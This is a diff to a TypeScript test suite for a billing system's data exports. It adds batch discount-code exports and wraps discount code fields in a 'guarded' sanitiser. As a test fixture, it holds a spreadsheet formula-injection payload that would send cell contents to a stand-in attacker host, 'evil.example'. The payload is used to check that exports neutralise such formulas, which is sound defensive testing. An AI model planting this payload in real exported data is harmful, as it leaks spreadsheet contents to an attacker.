@@ -8,8 +8,10 @@ import {
   discountStatus,
   type ExportTask,
   emptyOf,
+  generateBatchCodes,
   incrementPromoCredit,
   invoiceStatus,
+  listBatchCodes,
   listCreditTransactions,
   listDiscounts,
   listInvoices,
@@ -18,6 +20,7 @@ import {
   listUsageEvents,
   listUserDiscounts,
   nameOfCode,
+  newBatchTemplate,
   newDiscount,
   newInvoice,
   subscriptionStatus,
@@ -33,6 +36,7 @@ import { exportDesk } from './desk.js';
 let s: Metered;
 let desk: ReturnType<typeof exportDesk>;
 let discountId: number;
+let templateId: number;
 const buyers: number[] = [];
 /** Names of those who hope that somebody opens an export. */
 const attack = '=HYPERLINK("http://evil.example?"&A1)';
@@ -58,10 +62,17 @@ beforeAll(async () => {
     endTime: 0,
   };
   await s.t.done(newDiscount, { ...fixed, discountPercentage: 0 }, s.merchant);
+  const codes = { codePrefix: '-1-', quantity: 9, billingType: 1, discountType: 1, discountPercentage: 500 };
+  const { template } = await s.t.done(newBatchTemplate, { ...codes, startTime: 0, endTime: 0 }, s.merchant);
+  templateId = template.id;
+  await s.t.done(activateDiscount, { id: templateId }, s.merchant);
+  await s.t.done(generateBatchCodes, { templateId }, s.merchant);
+  const { children } = await s.t.done(listBatchCodes, { templateId }, s.merchant);
   for (const [at, firstName] of ['Ada', attack, '中文\r\n,"', '-1'].entries()) {
     const userId = await s.buyer('succeeds', { firstName, lastName: 'Lovelace', externalUserId: `@${at}` });
     buyers.push(userId);
-    const { id } = await s.subscribe({ userId, planId, ...(at < 2 && { discountCode: 'MAY' }) });
+    const discountCode = at < 2 ? 'MAY' : (children[at]?.code ?? '');
+    const { id } = await s.subscribe({ userId, planId, discountCode });
     await s.useMany(userId, calls, [3, 4, 5]);
     await s.t.done(incrementPromoCredit, { userId, currency: 'EUR', amount: 100 + at }, s.merchant);
     const lines = [{ name: 'Desk', unitAmountExcludingTax: 1_234 + at }];
@@ -121,7 +132,7 @@ const lists: Partial<Record<ExportTask, (filters: object) => Promise<Record<stri
       ...{ TaxAmount: major(one.taxAmount, one.currency), TaxPercentage: String(one.taxPercentage / 100) },
       TotalAmount: major(one.totalAmount, one.currency),
       PartialCreditPaidAmount: major(one.partialCreditPaidAmount, one.currency),
-      ...{ AmountDue: major(one.amountDue, one.currency), DiscountCode: one.discountCode },
+      ...{ AmountDue: major(one.amountDue, one.currency), DiscountCode: guarded(one.discountCode) },
       ...buyerOf(one.userAccount),
       ...{ CompanyName: one.userSnapshot?.companyName ?? '', CountryCode: one.countryCode, VatNumber: one.vatNumber },
       ...{ Gateway: one.gateway?.gatewayName ?? '', PaymentId: one.paymentId },
@@ -133,7 +144,12 @@ const lists: Partial<Record<ExportTask, (filters: object) => Promise<Record<stri
       ...{ SubscriptionId: one.subscriptionId, Status: nameOfCode(subscriptionStatus, one.status) },
       ...{ PlanId: String(one.planId), PlanName: plan?.planName ?? '', ProductId: String(one.productId) },
       ...{ Quantity: String(one.quantity), Currency: one.currency, Amount: major(one.amount, one.currency) },
-      ...{ Interval: '1 month', AddOns: '', DiscountCode: discount?.code ?? '', Gateway: gateway?.gatewayName ?? '' },
+      ...{
+        Interval: '1 month',
+        AddOns: '',
+        DiscountCode: guarded(discount?.code ?? ''),
+        Gateway: gateway?.gatewayName ?? '',
+      },
       ...{ CancelAtPeriodEnd: one.cancelAtPeriodEnd ? 'yes' : 'no', CancelReason: one.cancelReason },
       ...{ CurrentPeriodStart: day(one.currentPeriodStart), CurrentPeriodEnd: day(one.currentPeriodEnd) },
       ...{ TrialEnd: day(one.trialEnd), FirstPaidTime: day(one.firstPaidTime), CreateTime: day(one.createTime) },
@@ -183,6 +199,15 @@ const lists: Partial<Record<ExportTask, (filters: object) => Promise<Record<stri
       ...buyerOf(one.user),
     }));
   },
+  BatchDiscountChildrenExport: async filters => {
+    const { children } = await s.t.done(listBatchCodes, { ...all, ...filters, templateId }, s.merchant);
+    return children.map(one => ({
+      ...{ Id: String(one.id), Code: guarded(one.code), ParentTemplateCode: guarded(one.parentTemplateCode) },
+      ...{ Status: 'active', DiscountPercentage: '5', CreateTime: day(one.createTime), PlanName: one.planName },
+      ...{ IsRedeemed: one.isRedeemed ? 'yes' : 'no', RedeemedTime: day(one.redeemedAt) },
+      ...{ RedeemedByEmail: one.redeemedByEmail, SubscriptionId: one.subscriptionId, InvoiceId: one.invoiceId },
+    }));
+  },
   MetricEventExport: async filters => {
     const { events } = await s.t.done(listUsageEvents, { ...all, ...filters }, s.merchant);
     return events.map(one => ({
@@ -228,6 +253,11 @@ const filtersOf: Partial<Record<ExportTask, () => fc.Arbitrary<object>>> = {
     some({ discountType: fc.constantFrom([1], [2]), searchKey: fc.constantFrom('ma', 'zz'), currency }),
   UserDiscountExport: () =>
     some({ userIds: someBuyers(), status: fc.constantFrom([1], [2]) }).map(filters => ({ ...filters, id: discountId })),
+  BatchDiscountChildrenExport: () =>
+    some({ code: fc.constantFrom('-1', 'a', 'zzzz'), createTimeEnd: times }).map(filters => ({
+      ...filters,
+      templateId,
+    })),
   MetricEventExport: () => some({ userIds: someBuyers(), createTimeEnd: times }),
 };
 
@@ -236,8 +266,8 @@ const byId: Partial<Record<ExportTask, string>> = { TransactionExport: 'Transact
 
 it.each(Object.keys(lists) as (keyof typeof lists)[])('%s holds exactly what its list shows', async task => {
   const filters = filtersOf[task]?.() ?? fc.constant({});
-  const required =
-    task === 'CreditTransactionExport' ? { accountType: 2 } : task === 'UserDiscountExport' ? { id: discountId } : {};
+  const needed = { CreditTransactionExport: { accountType: 2 }, UserDiscountExport: { id: discountId } };
+  const required = { ...needed, BatchDiscountChildrenExport: { templateId } }[task as keyof typeof needed] ?? {};
   const key = byId[task];
   const ordered = <R extends Record<string, string>>(rows: R[]) =>
     key === undefined ? rows : rows.toSorted((one, other) => ((one[key] ?? '') < (other[key] ?? '') ? -1 : 1));
